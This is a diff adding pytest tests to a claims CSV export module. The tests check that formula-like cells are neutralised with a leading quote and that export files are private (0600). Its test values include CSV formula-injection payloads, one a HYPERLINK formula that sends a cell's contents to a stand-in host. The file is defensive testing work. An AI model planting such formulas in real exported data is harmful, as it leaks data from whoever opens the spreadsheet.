@@ -1,7 +1,11 @@
 """`export_claims`: the claims of one stage as CSV for the payments system, oldest first, with
-the export audited (kidb_tui/services/export.py)."""
+the export audited, the file private (0600) and every cell that would start a spreadsheet
+formula neutralised with a leading `'` (kidb_tui/services/export.py)."""
 
 import csv
+import io
+import os
+import stat
 from datetime import timedelta
 
 import pytest
@@ -9,7 +13,9 @@ import pytest
 from kidb_tui.errors import ValidationError
 from kidb_tui.models import Claim
 from kidb_tui.services import review
+from kidb_tui.services.demo import demo_csv
 from kidb_tui.services.export import COLUMNS, export_claims
+from kidb_tui.services.participants import import_text
 from tests.backoffice_services.helpers import ANI, TRANSFER, audit_rows, claim_of, file_claim, officer, walk
 from tests.conftest import BUDI, FROZEN_AT, JOKO, SITI
 
@@ -99,3 +105,65 @@ def test_a_rejected_claim_leaves_the_agenda_export(demo_rt, tmp_path):
     review.reject(demo_rt, ani, budi_claim.id, 1, "other", "Hubungi kantor cabang.")
     assert export_claims(demo_rt, "agenda", tmp_path / "a.csv") == 0
     assert export_claims(demo_rt, "ditolak", tmp_path / "d.csv") == 2
+
+
+def test_a_name_imported_as_a_formula_is_exported_as_text(demo_rt, tmp_path):
+    formula = '=HYPERLINK("http://x.example/?d="&A1,"Budi Santoso")'
+    people = list(csv.DictReader(io.StringIO(demo_csv(FROZEN_AT.date()))))
+    for person in people:
+        if person["nib"] == BUDI.nib:
+            person["full_name"] = formula
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(people[0]), lineterminator="\n")
+    writer.writeheader()
+    writer.writerows(people)
+    assert import_text(demo_rt, buffer.getvalue()).updated == 6
+    path = tmp_path / "agenda.csv"
+    export_claims(demo_rt, "agenda", path)
+    [row] = read_csv(path)
+    assert (row["nib"], row["full_name"], row["account_holder"]) == (BUDI.nib, f"'{formula}", BUDI.name)
+    assert (row["amount"], row["approved_amount"]) == ("4500000", "")
+
+
+@pytest.mark.parametrize("value", [
+    "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "\tBudi Santoso", "\rBudi Santoso", '=HYPERLINK("http://x.example","klik")',
+])
+def test_a_cell_starting_like_a_formula_gets_a_leading_quote(demo_rt, tmp_path, value):
+    """Rows written before the kiosk refused such holders, or by other tools, are exported safely."""
+    with demo_rt.write() as session:
+        row = session.get(Claim, claim_of(demo_rt, BUDI).id)
+        row.account_holder, row.payment_reference = value, value
+        session.add(row)
+    path = tmp_path / "agenda.csv"
+    export_claims(demo_rt, "agenda", path)
+    [exported] = read_csv(path)
+    assert (exported["account_holder"], exported["payment_reference"]) == (f"'{value}", f"'{value}")
+    assert (exported["amount"], exported["nib"], exported["bank_code"]) == ("4500000", BUDI.nib, "014")
+
+
+@pytest.mark.parametrize("value", ["Budi Santoso", "Budi-Santoso", "Budi =1+1", "'Budi", "Budi@example"])
+def test_a_formula_sign_after_the_first_character_is_left_alone(demo_rt, tmp_path, value):
+    with demo_rt.write() as session:
+        row = session.get(Claim, claim_of(demo_rt, BUDI).id)
+        row.account_holder = value
+        session.add(row)
+    export_claims(demo_rt, "agenda", tmp_path / "agenda.csv")
+    assert read_csv(tmp_path / "agenda.csv")[0]["account_holder"] == value
+
+
+@pytest.fixture
+def usual_umask():
+    previous = os.umask(0o022)
+    yield
+    os.umask(previous)
+
+
+def test_the_export_file_is_private(demo_rt, tmp_path, usual_umask):
+    new = tmp_path / "new.csv"
+    export_claims(demo_rt, "agenda", new)
+    old = tmp_path / "old.csv"
+    old.write_text("stale,rows\n" * 100, encoding="utf-8")
+    assert stat.S_IMODE(old.stat().st_mode) == 0o644
+    export_claims(demo_rt, "agenda", old)
+    assert [stat.S_IMODE(path.stat().st_mode) for path in (new, old)] == [0o600, 0o600]
+    assert old.read_text(encoding="utf-8") == new.read_text(encoding="utf-8")
